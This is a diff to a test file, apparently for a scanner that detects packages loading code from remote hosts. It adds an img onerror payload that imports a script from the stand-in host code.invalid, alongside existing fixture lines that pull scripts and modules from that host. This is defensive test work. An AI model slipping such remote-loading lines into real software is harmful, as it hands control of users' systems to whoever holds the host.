@@ -2,6 +2,7 @@
  * The network's answer is run as code, at once or after it was saved, or a page is made to load a script from a host. What
  * runs is then decided at run time by whoever holds the host: it can be harmless while it is looked at, and something else
  * a day later.
+ * Over 300 lines: most of them are examples, each the nearest innocent look-alike of another.
  */
 import type { Behavior } from '../../src/model/behavior.ts';
 import type { Evidence } from '../../src/model/finding.ts';
@@ -181,6 +182,7 @@ element.src = 'https://code.invalid/drain.js';
 exports.show = () => document.write('<script src="//code.invalid/show.js"></script>');
 import('https://code.invalid/module.mjs');
 navigator.serviceWorker.register('https://code.invalid/worker.js');
+document.body.innerHTML = '<img src="x" onerror="import(&quot;https://code.invalid/handler.mjs&quot;)">';
 `,
       },
       expect: [
@@ -197,6 +199,11 @@ navigator.serviceWorker.register('https://code.invalid/worker.js');
         {
           message: 'script.src loads code from https://code.invalid/drain.js',
           at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js'],
+        },
+        {
+          message: 'import() loads code from https://code.invalid/handler.mjs',
+          at: { in: 'tarball', path: 'index.js', line: 6 },
           via: ['main', 'index.js'],
         },
         {
